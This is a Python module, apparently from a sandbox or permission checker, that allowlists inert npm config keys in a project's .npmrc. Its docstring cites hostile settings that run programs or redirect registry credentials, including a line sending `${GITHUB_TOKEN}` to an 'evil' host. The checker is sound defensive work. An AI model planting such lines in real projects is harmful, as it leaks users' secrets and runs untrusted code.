"""A project's `.npmrc`, read with an allowlist of keys known to be inert.

npm reads `.npmrc` in the project root (the nearest directory with
package.json or node_modules, or a workspace root above it), and the user's
`~/.npmrc` and the global npmrc.  The project file comes with the
repository, so it is untrusted; the user's and the global one are trusted,
as for git.  A project key can run a program (`git=./x` is run by `npm view`
of a git spec, `shell`, `script-shell`, `editor`, `browser`, `viewer`,
`node-options`), write anywhere (`logs-dir`, `cache`, `prefix`), pull in
another config (`userconfig`, `globalconfig`), or send the user's secrets to
a host (`//evil/:_authToken=${GITHUB_TOKEN}` with `registry=https://evil/`).
Checked with npm 11.19.1: `git=CANARY` ran the canary for `npm view
git+file:///…`, `logs-dir=DIR` made `npm ls` write its debug log in DIR.
"""

from __future__ import annotations

import os

from .files import read_text

# Keys that only shape output, resolution or installs (which are denied):
# npm 11 config definitions (npm help 7 config), and the pnpm keys projects share
# the file with, which npm ignores.
INERT = frozenset({
    "access", "allow-same-version", "audit", "audit-level", "auth-type", "before", "bin-links",
    "ci-name", "color", "commit-hooks", "cpu", "depth", "description", "dev", "diff-dst-prefix",
    "diff-ignore-all-space", "diff-name-only", "diff-no-prefix", "diff-src-prefix", "diff-text",
    "diff-unified", "dry-run", "engine-strict", "fetch-retries", "fetch-retry-factor",
    "fetch-retry-maxtimeout", "fetch-retry-mintimeout", "fetch-timeout", "force",
    "foreground-scripts", "format-package-lock", "fund", "git-tag-version", "global-style",
    "heading", "if-present", "ignore-scripts", "include", "include-staged",
    "include-workspace-root", "init-author-email", "init-author-name", "init-author-url",
    "init-license", "init-version", "install-links", "install-strategy", "json",
    "legacy-bundling", "legacy-peer-deps", "libc", "link", "lockfile-version", "loglevel",
    "logs-max", "long", "maxsockets", "message", "offline", "omit", "optional", "os",
    "package-lock", "package-lock-only", "parseable", "prefer-dedupe", "prefer-offline",
    "prefer-online", "preid", "production", "progress", "provenance", "rebuild-bundle", "save",
    "save-bundle", "save-dev", "save-exact", "save-optional", "save-peer", "save-prefix",
    "save-prod", "scope", "searchlimit", "searchopts", "searchexclude", "searchstaleness",
    "sign-git-commit", "sign-git-tag", "strict-peer-deps", "strict-ssl", "tag",
    "tag-version-prefix", "umask", "unicode", "update-notifier", "usage", "version", "versions",
    "workspaces-update", "yes",
    # pnpm
    "auto-install-peers", "shamefully-hoist", "strict-peer-dependencies", "node-linker",
    "public-hoist-pattern", "hoist-pattern", "enable-pre-post-scripts", "resolution-mode",
    "link-workspace-packages", "prefer-workspace-packages", "dedupe-peer-dependents",
})
# Keys that choose where registry requests go: harmless for commands that never contact
# the registry (ls, explain, pkg get), not for `npm view`, which would query that host.
REGISTRY = frozenset({"registry", "replace-registry-host", "proxy", "https-proxy", "noproxy"})


class NpmrcError(ValueError):
    """A line npm's ini reader would take differently from the checker, or a section."""


def entries(text: str) -> list[tuple[int, str, str]]:
    """(line, key, value) of each setting; a key without `=` is `true`, as in npm's ini."""
    found = []
    for number, line in enumerate(text.splitlines(), start=1):
        stripped = line.strip()
        if not stripped or stripped[0] in ";#":
            continue
        if stripped.startswith("["):
            raise NpmrcError(f"line {number}: sections (`{stripped}`) are not read by the checker")
        key, eq, value = stripped.partition("=")
        key = key.strip()
        if key.startswith('"') or key.startswith("'"):
            raise NpmrcError(f"line {number}: quoted keys are not read by the checker")
        if key.endswith("[]"):
            key = key[:-2]
        found.append((number, key, value.strip() if eq else "true"))
    return found


def why_not_inert(key: str, online: bool) -> str | None:
    """None when `key` is inert for a command that does (online) or does not contact
    the registry, else the reason."""
    if key in INERT:
        return None
    if key in REGISTRY or (key.startswith("@") and key.endswith(":registry")):
        if online:
            return "it sends registry requests (and their credentials) to a host the project chooses"
        return None
    if key.startswith("//") or key.startswith("_"):
        return "it holds credentials npm sends to a registry (a `${VAR}` value sends that variable)"
    return "the key is not on the list of npm keys known to run nothing"


def project_files(directory: str) -> list[str]:
    """Every `.npmrc` npm may read as project config from `directory`: in it and its
    parents (a superset of npm's project root and workspace root), except the user's."""
    user = os.path.realpath(os.path.expanduser("~/.npmrc"))
    here = os.path.realpath(directory)
    found = []
    while True:
        path = os.path.join(here, ".npmrc")
        if os.path.lexists(path) and os.path.realpath(path) != user:
            found.append(path)
        parent = os.path.dirname(here)
        if parent == here:
            return found
        here = parent


def findings(directory: str, online: bool, trusted: tuple[str, ...] = ()
             ) -> list[tuple[str, int, str, str, str]]:
    """(file, line, key, value, why) for each project key that is neither inert nor trusted.

    Raises Unreadable (a FIFO, a directory...) or NpmrcError: the caller denies.
    """
    from .gitkeys import trusted as is_trusted

    result = []
    for path in project_files(directory):
        text = read_text(path)
        for line, key, value in entries(text or ""):
            why = why_not_inert(key, online)
            if why is not None and not is_trusted(key, trusted):
                result.append((path, line, key, value, why))
    return result
